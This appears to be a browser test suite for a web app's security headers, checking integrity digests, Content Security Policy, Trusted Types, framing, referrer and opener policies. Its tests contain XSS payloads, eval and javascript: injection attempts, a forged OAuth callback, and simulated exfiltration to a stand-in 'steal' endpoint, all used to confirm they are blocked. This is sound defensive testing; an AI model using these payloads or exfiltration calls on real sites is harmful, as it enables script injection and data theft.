// Area Q of the requirements: what the shipped files and their headers hold, in a browser. tests/headers.rs has the tool itself.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { createServer as listenForConnections } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import vm from 'node:vm';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { compress } from '../../scripts/compress.mjs';
import { joinStyles } from '../../scripts/styles.mjs';
import {
  API, APP, PROVIDER, alter, configure, expect, host, openMenu, signIn, storedKeys, test, watch,
} from './support.mjs';
import { inspect } from './look.mjs';

const FOREIGN = 'http://localhost:8089';
const policyOf = (response) => response.headers()['content-security-policy'];
const button = (page) => page.getByRole('button', { name: /^Development provider/ });
const send = (page) => page.getByRole('button', { name: 'Send: Who am I to the API' }).click();
const sha384 = (bytes) => `sha384-${createHash('sha384').update(bytes).digest('base64')}`;

async function shippedPage(request) {
  return (await request.get(`${APP}/`)).text();
}

// What the console says once that matches.
const said = (page, pattern) => page.waitForEvent('console', (message) => pattern.test(message.text()));

test('web-csp-inline: the page that ships has no script, style or handler in it', async ({ request }) => {
  const html = await shippedPage(request);
  const scripts = html.match(/<script[^>]*>[^]*?<\/script>/g);
  expect(scripts).toHaveLength(2);
  expect(scripts[0]).toMatch(/^<script src="\/theme-[0-9a-f]+\.js" integrity="sha384-[^"]+"><\/script>$/);
  expect(scripts[1]).toMatch(/^<script type="module" src="\/daypass-[0-9a-f]+\.js" integrity="sha384-[^"]+" crossorigin="anonymous"><\/script>$/);
  expect(html).not.toMatch(/<style|\sstyle=|\son\w+=|javascript:/i);
});

test('web-sri: the script, the styles and the parts of the program are named with the digests of what ships', async ({ request }) => {
  const html = await shippedPage(request);
  const body = async (path) => (await request.get(`${APP}${path}`)).body();
  const tags = [...html.matchAll(/<(?:script|link rel="stylesheet")[^>]* (?:src|href)="([^"]+)" integrity="([^"]+)"/g)];
  expect(tags.filter(([tag]) => tag.startsWith('<link'))).toHaveLength(html.match(/rel="stylesheet"/g).length);
  for (const [, path, integrity] of tags) expect(sha384(await body(path)), path).toBe(integrity);
  const script = String(await body(tags.find(([tag]) => tag.startsWith('<script type="module"'))[1]));
  const programs = [...script.matchAll(/"file":"([^"]+\.wasm)","integrity":"([^"]+)"/g)];
  const shipped = (await readdir(new URL('../../dist/', import.meta.url))).filter((name) => name.endsWith('.wasm'));
  expect(programs.map(([, file]) => file).sort()).toEqual(shipped.sort());
  for (const [, file, integrity] of programs) expect(sha384(await body(`/${file}`)), file).toBe(integrity);
});

test('web-sri: a build whose script loads another one fails, because nobody would check that one', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'daypass-seal-'));
  const seal = fileURLToPath(new URL('../../scripts/seal.mjs', import.meta.url));
  const build = async (glue) => {
    await writeFile(join(folder, 'index.html'), '<script type="module" src="/a-0.js"></script><link rel="preload" as="fetch" type="application/wasm" href="/a.wasm">');
    await writeFile(join(folder, 'a.wasm'), '');
    await writeFile(join(folder, 'a-0.js'), `${glue}\nelement.innerHTML = getStringFromWasm0(arg0, arg1);\n`);
    return execFileSync(process.execPath, [seal], { env: { ...process.env, TRUNK_STAGING_DIR: folder }, encoding: 'utf8', stdio: 'pipe' });
  };
  try {
    expect(await build('')).toBe('');
    await expect(build("import { run } from './snippets/other/inline0.js';")).rejects.toThrow(/loads another one/);
  } finally {
    await rm(folder, { recursive: true });
  }
});

test('a release has one style sheet, which is those of the page in their order, and none that loads another one', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'daypass-styles-'));
  const build = async (...sheets) => {
    await Promise.all(sheets.map((text, at) => writeFile(join(folder, `${at}-0.css`), text)));
    const tags = sheets.map((_, at) => `<link rel="stylesheet" href="/folder/${at}-0.css" integrity="sha384-x"/>\n`);
    return joinStyles(`<title></title>\n${tags.join('')}<script>`, folder, { hashed: (text) => `${text.length}`, digest: sha384 });
  };
  try {
    const made = 'b { color: red }\na { color: blue }\n';
    const page = await build('b { color: red }\n', 'a { color: blue }\n');
    expect(page).toBe(`<title></title>\n<link rel="stylesheet" href="/folder/daypass-${made.length}.css" integrity="${sha384(made)}"/>\n<script>`);
    expect(await readdir(folder)).toEqual([`daypass-${made.length}.css`]);
    expect(await readFile(join(folder, `daypass-${made.length}.css`), 'utf8')).toBe(made);
    await expect(build('a {}\n', '@import "b.css";\n')).rejects.toThrow(/loads another one/);
    await expect(build()).rejects.toThrow(/does not know/);
  } finally {
    await rm(folder, { recursive: true });
  }
});

test('a build has the same copies each time, and none of the file that is edited after it', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'daypass-compress-'));
  try {
    for (const name of ['index.html', 'a-0.js', 'a-0.css', 'a-0.wasm', 'a-0.svg', 'daypass.json']) await writeFile(join(folder, name), name.repeat(100));
    const copies = async () => {
      await compress(folder);
      const names = (await readdir(folder)).filter((name) => /\.(br|gz)$/.test(name)).sort();
      return Promise.all(names.map(async (name) => ({ name, content: await readFile(join(folder, name)) })));
    };
    const made = await copies();
    expect(made.map(({ name }) => name)).toEqual(['a-0.css', 'a-0.js', 'a-0.svg', 'a-0.wasm', 'index.html'].flatMap((name) => [`${name}.br`, `${name}.gz`]));
    for (const { name, content } of made) {
      const plain = name.endsWith('.br') ? brotliDecompressSync(content) : gunzipSync(content);
      expect(`${plain}`, name).toBe(name.replace(/\.(br|gz)$/, '').repeat(100));
    }
    expect(await copies()).toEqual(made);
  } finally {
    await rm(folder, { recursive: true });
  }
});

test('the browser connects to a provider while the program is on its way, and asks it nothing', async ({ playwright, launchOptions }) => {
  const folder = await mkdtemp(join(tmpdir(), 'daypass-profile-'));
  const connections = [];
  const provider = listenForConnections((socket) => connections.push(socket));
  await new Promise((resolve) => provider.listen(0, '127.0.0.1', resolve));
  // Chromium connects ahead with a profile of its own only, and not in the contexts of other tests
  const background = '--disable-background-networking';
  const args = launchOptions.args.filter((it) => it !== background);
  const context = await playwright.chromium.launchPersistentContext(folder, { ...launchOptions, args, ignoreDefaultArgs: [background] });
  try {
    await configure(context, (it) => { it.issuer = `http://localhost:${provider.address().port}`; });
    const page = await context.newPage();
    // never answered
    await page.route('**/*.wasm', () => {});
    await page.goto(`${APP}/`);
    await expect.poll(() => connections.length).toBeGreaterThan(0);
    expect(connections.map((it) => it.bytesRead).filter((bytes) => bytes > 0)).toEqual([]);
  } finally {
    await context.close();
    provider.close();
    connections.forEach((it) => it.destroy());
    await rm(folder, { recursive: true });
  }
});

test.describe('a file that was altered on its way', () => {
  test.use({ expected: /integrity|Failed to fetch/ });

  test('web-sri: a script that was altered is not run', async ({ page }) => {
    await alter(page, '**/daypass-*.js', async (response) => ({ body: `${await response.text()}\nwindow.altered = true;` }));
    const programs = watch(page, (request) => request.url().endsWith('.wasm') && request.resourceType() === 'fetch');
    const refused = said(page, /digest.*integrity.*\.js/s);
    await page.goto('/');
    await refused;
    await page.waitForLoadState('load');
    expect(await page.evaluate(() => window.altered)).toBe(undefined);
    await expect(page.getByRole('region', { name: 'Loading' })).toBeVisible();
    await expect(button(page)).toHaveCount(0);
    // the preload of the program at most: nobody has asked for it
    expect(programs.length).toBeLessThanOrEqual(1);
  });

  test('web-sri: a style that was altered is not used', async ({ page }) => {
    await alter(page, '**/daypass-*.css', async (response) => ({ body: `${await response.text()}\n:root { --altered: 1; }` }));
    const refused = said(page, /digest.*integrity.*\/daypass-[0-9a-f]{16}\.css/s);
    await page.goto('/');
    await refused;
    await expect(button(page)).toBeVisible();
    const properties = await page.evaluate(() => ['--altered', '--card'].map((it) => getComputedStyle(document.documentElement).getPropertyValue(it)));
    expect(properties, 'nothing of the file is used').toEqual(['', '']);
  });

  test('web-sri: a program that was altered is not run, and the page says so', async ({ page }) => {
    // a custom section, which changes nothing of what the program does
    await alter(page, '**/*.wasm', async (response) => ({ body: Buffer.concat([await response.body(), Buffer.from([0, 2, 1, 120])]) }));
    await page.goto('/');
    await inspect(page, 'A file of this app did not arrive');
    await expect(button(page)).toHaveCount(0);
    await page.unrouteAll();
    await page.getByRole('button', { name: 'Try again' }).click();
    await expect(button(page)).toBeVisible();
  });

  test('a program that is not there is told like one that was altered', async ({ page }) => {
    await page.route('**/*.wasm', (route) => route.fulfill({ status: 404 }));
    await page.goto('/');
    await expect(page.getByRole('heading', { name: 'A file of this app did not arrive' })).toBeVisible();
  });
});

test('web-csp-script, web-csp-connect, web-csp-rest: the policy names what the app needs and nothing else', async ({ page }) => {
  const policy = policyOf(await page.goto('/')).split('; ');
  const servers = `${PROVIDER} ${API} http://localhost:8083`;
  expect(policy).toEqual([
    "default-src 'none'",
    "script-src 'self' 'wasm-unsafe-eval'",
    "style-src 'self'",
    `img-src 'self' https: ${PROVIDER} http://localhost:8083`,
    "manifest-src 'self'",
    `connect-src 'self' ${servers}`,
    "frame-src 'none'",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'none'",
    "frame-ancestors 'none'",
    "require-trusted-types-for 'script'",
    'trusted-types daypass',
  ]);
});

test.describe('script that somebody has brought into the page', () => {
  test.use({ expected: /Content Security Policy|Trusted(HTML|Script)|violates the following/ });

  test.beforeEach(async ({ page }) => {
    await page.goto('/');
    await expect(button(page)).toBeVisible();
  });

  test('web-csp-connect: it can send nothing to an origin that is not configured', async ({ page, context }) => {
    const reached = [];
    await context.route(`${FOREIGN}/**`, (route) => { reached.push(route.request().url()); return route.fulfill({ body: '' }); });
    const outcomes = await page.evaluate(async (url) => {
      window.blocked = [];
      document.addEventListener('securitypolicyviolation', (event) => window.blocked.push(event.effectiveDirective));
      const frame = document.body.appendChild(document.createElement('iframe'));
      frame.src = url;
      const form = document.body.appendChild(document.createElement('form'));
      Object.assign(form, { action: url, method: 'post' }).submit();
      Object.assign(new Image(), { src: url });
      navigator.sendBeacon(url, 'stolen');
      new EventSource(url);
      const socket = await new Promise((resolve) => {
        const opened = new WebSocket(url.replace('http', 'ws'));
        Object.assign(opened, { onopen: () => resolve('open'), onerror: () => resolve('refused') });
      });
      const fetched = await fetch(url, { mode: 'no-cors' }).then(() => 'sent', () => 'refused');
      return { socket, fetched };
    }, `${FOREIGN}/steal`);
    expect(outcomes).toEqual({ socket: 'refused', fetched: 'refused' });
    const blocked = () => page.evaluate(() => [...new Set(window.blocked)].sort());
    await expect.poll(blocked).toEqual(['connect-src', 'form-action', 'frame-src', 'img-src']);
    expect(reached).toEqual([]);
  });

  test('web-csp-script: text is never run as script', async ({ page }) => {
    await page.evaluate(async () => {
      // whoever drives the browser may do what the page may not, until this
      await new Promise((resolve) => setTimeout(resolve));
      window.ran = [];
      window.blocked = [];
      document.addEventListener('securitypolicyviolation', (event) => window.blocked.push(event.effectiveDirective));
      const tried = (run) => { try { run(); } catch { /* as it should */ } };
      tried(() => (0, eval)('window.ran.push("eval")'));
      tried(() => new Function('window.ran.push("Function")')());
      tried(() => setTimeout('window.ran.push("setTimeout")'));
      tried(() => document.body.setAttribute('onclick', 'window.ran.push("onclick")'));
      tried(() => { document.body.appendChild(document.createElement('script')).text = 'window.ran.push("script")'; });
      tried(() => { document.body.appendChild(document.createElement('script')).append('window.ran.push("script text")'); });
      tried(() => { document.body.appendChild(document.createElement('script')).src = 'data:text/javascript,window.ran.push("src")'; });
      tried(() => { location.href = 'javascript:window.ran.push("javascript:")'; });
      document.body.click();
    });
    // timers and navigations of the page come before what is asked after them
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 1)));
    expect(await page.evaluate(() => window.ran)).toEqual([]);
    await expect.poll(() => page.evaluate(() => [...new Set(window.blocked)].sort())).toContain('require-trusted-types-for');
  });

  test('web-tt: it can neither write markup nor make a policy that would', async ({ page }) => {
    const outcome = await page.evaluate(() => {
      const thrown = (run) => { try { run(); return 'done'; } catch (error) { return error.name; } };
      const element = document.createElement('template');
      return [
        thrown(() => { element.innerHTML = '<img src=x onerror=alert(1)>'; }),
        thrown(() => element.insertAdjacentHTML('beforeend', '<b>b</b>')),
        thrown(() => document.write('<b>b</b>')),
        thrown(() => new DOMParser().parseFromString('<b>b</b>', 'text/html')),
        thrown(() => { document.createElement('iframe').srcdoc = '<b>b</b>'; }),
        thrown(() => trustedTypes.createPolicy('default', { createHTML: (it) => it })),
        thrown(() => trustedTypes.createPolicy('other', { createHTML: (it) => it })),
        thrown(() => trustedTypes.createPolicy('daypass', { createHTML: (it) => it })),
      ];
    });
    expect(outcome).toEqual(Array(8).fill('TypeError'));
  });
});

test('web-tt: the policy takes markup that neither runs nor loads anything, and no other', async () => {
  const source = await readFile(new URL('../../boot/policy.js', import.meta.url), 'utf8');
  const { createHTML } = vm.runInNewContext(`${source}; policy`);
  const tame = [
    'text', '<p class="lede">Hello &amp; welcome</p>', '<h1 id="title" tabindex="-1">Account</h1>', '<br>', '<hr/>', '<!---->', '<b>1 > 0</b>',
    '<g transform="rotate(-10 16 16)" stroke-width="2.2"><path fill="none" d="m7 16 3.2 3.4"/></g>', '<span aria-hidden="true"></span>',
  ];
  for (const markup of tame) expect(createHTML(markup), markup).toBe(markup);
  const wild = [
    '<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT>', '<img src=x onerror=alert(1)>', '<p onclick="alert(1)">x</p>', '<a href="javascript:alert(1)">x</a>',
    '<iframe></iframe>', '<iframe srcdoc="x"></iframe>', '<style>p{}</style>', '<p style="color:red">x</p>', '<base href="/x">', '<svg><use href="#x"/></svg>',
    '<p class=x>x</p>', '<p class="x"onclick="alert(1)">x</p>', '<p/onclick="alert(1)">', '<p class="a" src="b">', '<template><p></template>', '<!-- --!><p>', '<math><mi xlink:href="x"></math>',
    '<form action="x">', '<embed>', '<object data="x">', '<link rel="x">', '<meta http-equiv="refresh">', '<p', '<', '<?x>', '<![CDATA[x]]>',
    // markup inside of quotes is markup all the same where the element around it holds plain text only
    '<title><p class="</title><img src=x onerror=alert(1)>">', '<textarea><p title="</textarea><iframe src=x>">', '<xmp><p class="</xmp><script>">',
  ];
  for (const markup of wild) expect(() => createHTML(markup), markup).toThrow(/may not make such markup/);
});

test.describe('a host whose policy forgets WebAssembly', () => {
  test.use({ expected: /WebAssembly|Content Security Policy/ });

  test('web-csp-wasm: the page says why it stays closed', async ({ page, context }) => {
    await host(context, { headers: { 'content-security-policy': "script-src 'self'" } });
    await page.goto('/');
    await inspect(page, 'This page may not run its program');
    await expect(page.locator('main')).toContainText("has to name 'wasm-unsafe-eval' in script-src");
  });

  test('web-csp-wasm: a browser without WebAssembly is told from a host that forbids it', async ({ page }) => {
    await page.addInitScript(() => { delete globalThis.WebAssembly; });
    await page.goto('/');
    await expect(page.getByRole('heading', { name: 'This browser runs no WebAssembly' })).toBeVisible();
  });
});

// Another site that shows a page of the app in a frame. It is a server of its own: of what a test answers itself, the browser
// does not know that it comes from this machine, and keeps it from this machine.
async function framedAt(page, url) {
  const html = `<!doctype html><html lang="en"><title>Win</title><section aria-label="Offer"><h1>Win a prize</h1>
    <iframe title="App" src="${url.replaceAll('&', '&amp;')}" width="340" height="760"></iframe></section>`;
  const server = createServer((request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(html));
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  page.context().on('close', () => server.close());
  await page.goto(`http://localhost:${server.address().port}/`);
  return page.frameLocator('iframe');
}

test.describe('inside a page of another site', () => {
  test.use({ expected: /frame-ancestors/ });

  test('web-frame: the browser shows nothing of the app', async ({ page }) => {
    await signIn(page, { user: 'ada' });
    const refused = said(page, /frame-ancestors/);
    const programs = watch(page, (request) => request.url().endsWith('.wasm'));
    const frame = await framedAt(page, `${APP}/account`);
    await refused;
    await expect(page.getByRole('heading', { name: 'Win a prize' })).toBeVisible();
    await expect(frame.locator('main')).toHaveCount(0);
    expect(programs).toEqual([]);
  });

  test('web-frame: where the host cannot forbid it, the app shows no session and starts no sign-in', async ({ page, context }) => {
    await configure(context, (provider) => { provider.silent = 'redirect'; });
    await host(context, { headers: { 'content-security-policy': null } });
    await signIn(page, { user: 'ada' });
    // what the page before has begun is none of the frame's
    const isOfFrame = (request) => request.isNavigationRequest() || request.frame() !== page.mainFrame();
    const foreign = watch(page, (request) => [PROVIDER, API].some((it) => request.url().startsWith(it)) && isOfFrame(request));
    for (const path of ['/account', '/', '/api?from=mail']) {
      const frame = await framedAt(page, `${APP}${path}`);
      await expect(frame.getByRole('heading', { name: 'This page is shown inside another one' })).toBeVisible();
      await expect(frame.getByRole('button')).toHaveCount(0);
      await expect(frame.getByRole('navigation')).toHaveCount(0);
      expect(await frame.locator('body').innerText()).not.toMatch(/Ada|Lovelace|Sign/);
    }
    expect(foreign).toEqual([]);
    await page.frameLocator('iframe').getByRole('link', { name: 'Open it by itself' }).click();
    await page.waitForURL((url) => url.origin === APP);
    await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
  });

  test('web-frame: an answer that is brought there is not used, and leaves the address', async ({ page, context }) => {
    await host(context, { headers: { 'content-security-policy': null } });
    const tokens = watch(page, (request) => request.url() === `${PROVIDER}/token`);
    const frame = await framedAt(page, `${APP}/callback?code=stolen&state=state&iss=${encodeURIComponent(PROVIDER)}`);
    await expect(frame.getByRole('heading', { name: 'This page is shown inside another one' })).toBeVisible();
    await expect.poll(() => page.frames()[1].url()).toBe(`${APP}/callback`);
    expect(tokens).toEqual([]);
  });

  test('web-frame: what the app says there can be read by everybody', async ({ page, context }) => {
    await host(context, { headers: { 'content-security-policy': null } });
    const frame = await framedAt(page, `${APP}/`);
    await expect(frame.getByRole('heading', { name: 'This page is shown inside another one' })).toBeVisible();
    await inspect(page, 'Win a prize');
  });

  test('web-frame: a page of the app inside the app itself is one too', async ({ page, context }) => {
    await configure(context, (provider) => { provider.silent = 'frame'; });
    await signIn(page, { user: 'ada' });
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = '/account';
      document.querySelector('main').append(frame);
    });
    await expect(page.frameLocator('iframe').getByRole('heading', { name: 'This page is shown inside another one' })).toBeVisible();
  });
});

test('web-frame: only the silent page of the app itself may be framed, and by nobody else', async ({ page, context }) => {
  expect(policyOf(await page.goto('/'))).toContain("frame-ancestors 'none'");
  await configure(context, (provider) => { provider.silent = 'frame'; });
  const policy = policyOf(await page.goto('/callback'));
  expect(policy).toContain("frame-ancestors 'self'");
  expect(policy).toContain(`frame-src 'self' ${PROVIDER};`);
});

for (const [where, headers] of [['by the header', {}], ['by the page alone', { 'referrer-policy': null }]]) {
  test(`web-referrer: providers and APIs see no Referer, ${where}`, async ({ page, context }) => {
    await host(context, { headers });
    const requests = watch(page, (request) => !request.url().startsWith(APP));
    await signIn(page, { from: '/api?private=1', user: 'ada' });
    await send(page);
    await expect(page.getByText('200 OK')).toBeVisible();
    await page.goto('/account?private=1');
    await expect(page.getByRole('heading', { name: 'Ada Lovelace' })).toBeVisible();
    const fromApp = [];
    for (const request of requests) {
      const { referer } = await request.allHeaders();
      // the provider's own pages lead from one to the next
      if (referer && !referer.startsWith(PROVIDER)) fromApp.push(`${request.url()} ${referer}`);
    }
    expect(fromApp).toEqual([]);
    for (const server of [`${PROVIDER}/auth`, `${PROVIDER}/token`, `${PROVIDER}/jwks`, `${API}/me`]) {
      expect(requests.some((it) => it.url().startsWith(server)), server).toBe(true);
    }
  });
}

for (const [means, policy] of [['redirect', 'same-origin'], ['popup', 'same-origin-allow-popups']]) {
  test(`web-coop: with sign-in by ${means} a page that opens the app gets no hold of it`, async ({ page, context }) => {
    await configure(context, (provider) => { provider.sign_in = means; });
    await context.route(`${FOREIGN}/**`, (route) => route.fulfill({ contentType: 'text/html', body: '<title>Other</title>' }));
    await page.goto(`${FOREIGN}/`);
    const [opened] = await Promise.all([
      page.waitForEvent('popup'),
      page.evaluate((url) => { window.opened = window.open(url); }, `${APP}/`),
    ]);
    await expect(button(opened)).toBeVisible();
    expect((await opened.reload()).headers()['cross-origin-opener-policy']).toBe(policy);
    expect(await opened.evaluate(() => window.opener)).toBe(null);
    expect(await page.evaluate(() => window.opened.closed), 'the handle is dead').toBe(true);
  });
}

test('web-coep: the app does not isolate itself, which would shut out the frames of providers', async ({ page }) => {
  const response = await page.goto('/');
  expect(response.headers()['cross-origin-embedder-policy']).toBe(undefined);
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
});

test('web-coep: where the host isolates it, a silent sign-in finds nobody and nothing breaks', async ({ page, context }) => {
  await signIn(page, { user: 'ada' });
  await page.close();
  await configure(context, (provider) => { provider.silent = 'frame'; });
  await host(context, { headers: { 'cross-origin-embedder-policy': 'require-corp' } });
  const tab = await context.newPage();
  await tab.clock.install();
  const attached = tab.waitForEvent('frameattached');
  await tab.goto('/');
  await attached;
  await tab.clock.fastForward(10_000);
  await expect.poll(() => tab.evaluate(() => sessionStorage.getItem('daypass:flight'))).toContain('no_answer');
  await expect(button(tab)).toBeVisible();
  await expect(tab.locator('.fail')).toHaveCount(0);
  expect(await storedKeys(tab, 'daypass:session')).toEqual([]);
});

test('web-permissions: the app may copy text, and nothing powerful', async ({ page }) => {
  await page.goto('/');
  const allowed = await page.evaluate(() => document.featurePolicy.allowedFeatures());
  const powerful = [
    'camera', 'clipboard-read', 'display-capture', 'geolocation', 'hid', 'identity-credentials-get', 'local-fonts', 'microphone', 'midi', 'payment',
    'publickey-credentials-create', 'publickey-credentials-get', 'screen-wake-lock', 'serial', 'usb', 'window-management', 'xr-spatial-tracking',
  ];
  expect(allowed.filter((it) => powerful.includes(it))).toEqual([]);
  expect(allowed).toContain('clipboard-write');
});

test('web-mime: every file comes with its own type and the order to believe it', async ({ page }) => {
  const files = watch(page, (request) => request.url().startsWith(APP));
  await page.goto('/');
  await expect(button(page)).toBeVisible();
  const own = await Promise.all(files.map((it) => it.response()));
  const types = new Set(own.map((it) => it.headers()['content-type']));
  expect([...types].sort()).toEqual(['application/json', 'application/wasm', 'image/svg+xml', 'text/css', 'text/html; charset=utf-8', 'text/javascript'].filter((it) => types.has(it)));
  expect(types.has('application/wasm') && types.has('text/javascript') && types.has('text/css')).toBe(true);
  for (const file of own) {
    expect(file.headers()['x-content-type-options'], file.url()).toBe('nosniff');
    expect(file.headers()['strict-transport-security'], file.url()).toMatch(/^max-age=\d{8,}$/);
  }
});

test('web-no-3p: no script, style, font or frame comes from anywhere else', async ({ page }) => {
  const kinds = ['script', 'stylesheet', 'font', 'media', 'manifest', 'other', 'document'];
  const foreign = [];
  page.on('request', (request) => {
    const inApp = request.frame().url().startsWith(APP) && !request.isNavigationRequest();
    if (inApp && kinds.includes(request.resourceType()) && !request.url().startsWith(APP)) foreign.push(request.url());
  });
  const scripts = watch(page, (request) => request.resourceType() === 'script' && request.url().startsWith(APP));
  await signIn(page, { user: 'ada' });
  await expect(page.getByRole('heading', { name: 'Ada Lovelace' })).toBeVisible();
  await openMenu(page);
  for (const path of ['/api', '/flight', '/account']) {
    await page.goto(path);
    await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
  }
  expect(foreign).toEqual([]);
  expect(new Set(scripts.map((it) => it.url())).size, 'the program and the colors').toBe(2);
});

test.describe('on a host that lets nobody set headers', () => {
  const tags = () => execFileSync(fileURLToPath(new URL('../../scripts/headers', import.meta.url)), ['--format', 'meta'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], cwd: fileURLToPath(new URL('../..', import.meta.url)) });
  const none = {
    'content-security-policy': null, 'referrer-policy': null, 'cross-origin-opener-policy': null, 'permissions-policy': null,
    'x-content-type-options': null, 'strict-transport-security': null,
  };
  test.use({ expected: /Content Security Policy directive: "connect-src|TrustedHTML|violates the document's Content Security Policy/ });

  test('web-csp-script, web-tt: the page itself states the policy, and the app runs under it', async ({ page, context }) => {
    await host(context, { headers: none, head: tags() });
    const violations = [];
    page.on('console', (message) => { if (/Content Security Policy|Trusted/.test(message.text())) violations.push(message.text()); });
    await signIn(page, { from: '/api', user: 'ada' });
    await send(page);
    await expect(page.getByText('200 OK')).toBeVisible();
    expect(violations).toEqual([]);
    const outcome = await page.evaluate(async (url) => {
      let markup = 'written';
      try { document.createElement('p').innerHTML = '<b>b</b>'; } catch (error) { markup = error.name; }
      return [markup, await fetch(url).then(() => 'sent', () => 'refused')];
    }, `${FOREIGN}/steal`);
    expect(outcome).toEqual(['TypeError', 'refused']);
  });
});
